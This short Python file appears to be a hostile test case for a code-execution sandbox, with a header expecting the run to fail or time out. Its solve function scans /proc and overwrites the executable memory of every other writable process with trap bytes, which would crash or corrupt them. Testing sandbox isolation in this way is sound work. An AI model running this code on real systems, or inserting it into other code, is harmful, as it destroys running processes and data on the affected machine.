# Writes over the code of every other process that lets itself be written to.
# kind: function
# expect: failed, timeout
import os
import time


def solve(n):
    for process in [f"/proc/{pid}" for pid in range(1, 500) if pid != os.getpid()]:
        try:
            with open(f"{process}/maps") as handle, open(f"{process}/mem", "r+b", 0) as memory:
                for line in handle:
                    if "x" in line.split()[1] and "[v" not in line:
                        start, end = (int(word, 16) for word in line.split()[0].split("-"))
                        memory.seek(start)
                        memory.write(b"\xcc" * (end - start))
        except OSError:
            pass
    time.sleep(0.2)
